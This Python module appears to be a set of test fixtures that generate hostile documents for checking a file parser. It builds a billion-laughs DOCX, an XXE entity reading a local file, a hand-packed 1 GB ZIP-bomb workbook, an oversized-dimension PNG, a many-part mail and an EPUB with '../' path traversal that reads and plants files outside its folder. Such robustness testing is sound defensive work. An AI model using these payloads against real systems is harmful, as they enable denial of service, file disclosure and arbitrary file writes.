"""Files made to harm who reads them, each small as it lies on the disk."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

_TYPES = """<?xml version="1.0"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="{part}" ContentType="{type}+xml"/></Types>"""
_RELATIONS = """<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
 Target="{target}"/></Relationships>"""
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main"
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def packed(files: dict[str, str | bytes]) -> bytes:
    """A ZIP file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(document: str | bytes, **more: str | bytes) -> bytes:
    """A Word file with ``document`` as its ``word/document.xml``."""
    return packed(
        {
            "[Content_Types].xml": _TYPES.format(part="/word/document.xml", type=_WORD),
            "_rels/.rels": _RELATIONS.format(kind="officeDocument", target="word/document.xml"),
            "word/document.xml": document,
            **more,
        }
    )


def paragraphs(text: str, doctype: str = "") -> str:
    """A ``word/document.xml`` of one paragraph."""
    return (
        f'<?xml version="1.0"?>{doctype}<w:document {_W}><w:body><w:p><w:r>'
        f"<w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )


def laughs(levels: int = 10) -> str:
    """A document type whose entity ``&l9;`` is 10 to the power of ``levels`` - 1 words."""
    lines = ["<!ENTITY l0 'ha '>"]
    lines += [f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, levels)]
    return f"<!DOCTYPE d [{''.join(lines)}]>"


def outside(target: str) -> str:
    """A document type whose entity ``&x;`` is a file of the machine."""
    return f"<!DOCTYPE d [<!ENTITY x SYSTEM '{target}'>]>"


def bomb(size: int = 1 << 30) -> bytes:
    """A workbook whose sheet has ``size`` bytes when unpacked: a row, over and over."""
    row = b'<row><c t="inlineStr"><is><t>bomb</t></is></c></row>'
    block = row * (1 << 20 >> 5)
    head = f'<?xml version="1.0"?><worksheet {_S}><sheetData>'.encode()
    book = packed(
        {
            "[Content_Types].xml": _TYPES.format(part="/xl/workbook.xml", type=_SHEETS),
            "_rels/.rels": _RELATIONS.format(kind="officeDocument", target="xl/workbook.xml"),
            "xl/_rels/workbook.xml.rels": _RELATIONS.format(
                kind="worksheet", target="worksheets/sheet1.xml"
            ),
            "xl/workbook.xml": f'<?xml version="1.0"?><workbook {_S} xmlns:r="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" '
            'sheetId="1" r:id="r1"/></sheets></workbook>',
        }
    )
    times = size // len(block)
    return _with_entry(book, b"xl/worksheets/sheet1.xml", head, block, times)


def _with_entry(archive: bytes, name: bytes, head: bytes, block: bytes, times: int) -> bytes:
    """Add a file of ``head`` and ``times`` times ``block``, packed without making it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = b"</sheetData></worksheet>"
    last = packer.compress(tail) + packer.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    data = first + again * times + last
    size = len(head) + len(block) * times + len(tail)
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
    local = b"PK\x03\x04" + common + name + data
    end = archive.rfind(b"PK\x05\x06")
    entries, directory_size, directory = struct.unpack_from("<HII", archive, end + 10)
    central = archive[directory : directory + directory_size]
    added = b"PK\x01\x02\x14\x00" + common + bytes(10) + struct.pack("<I", directory)
    closing = struct.pack(
        "<4sHHHHIIH",
        b"PK\x05\x06",
        0,
        0,
        entries + 1,
        entries + 1,
        directory_size + len(added) + len(name),
        directory + len(local),
        0,
    )
    return archive[:directory] + local + central + added + name + closing


def pdf(objects: list[str]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    out = bytearray(b"%PDF-1.4\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += f"trailer <</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF".encode()
    return bytes(out)


def page(text: str, *, size: tuple[int, int] = (612, 792)) -> bytes:
    """A PDF of one page."""
    stream = f"BT /F1 12 Tf 72 700 Td ({text}) Tj ET" if text else ""
    return pdf(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {size[0]} {size[1]}]/Contents 4 0 R"
            "/Resources<</Font<</F1 5 0 R>>>>>>",
            f"<</Length {len(stream)}>>\nstream\n{stream}\nendstream",
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ]
    )


def png(width: int, height: int) -> bytes:
    """A PNG image that claims a size and has hardly any data."""

    def piece(kind: bytes, data: bytes) -> bytes:
        size, check = struct.pack(">I", len(data)), struct.pack(">I", zlib.crc32(kind + data))
        return size + kind + data + check

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1000))
    pieces = piece(b"IHDR", header) + piece(b"IDAT", pixels) + piece(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + pieces


def mail(parts: int) -> bytes:
    """A mail of that many parts."""
    body = "".join(f"--b\r\nContent-Type: text/plain\r\n\r\npart {n}\r\n" for n in range(parts))
    head = "Subject: many\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    return f"{head}{body}--b--\r\n".encode()


def epub(text: str, target: str, planted: str) -> bytes:
    """A book whose list of contents names a file outside, and that has a file to put outside."""
    up = "../" * 30
    return packed(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:'
            'container"><rootfiles><rootfile full-path="a.opf" '
            'media-type="application/oebps-package+xml"/></rootfiles></container>',
            "a.opf": '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/>'
            f'<manifest><item id="a" href="{up}{target}" media-type="application/xhtml+xml"/>'
            '<item id="b" href="b.xhtml" media-type="application/xhtml+xml"/></manifest>'
            '<spine><itemref idref="a"/><itemref idref="b"/></spine></package>',
            "b.xhtml": f"<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{text}</p></body></html>",
            f"{up}{planted}": "planted",
        }
    )
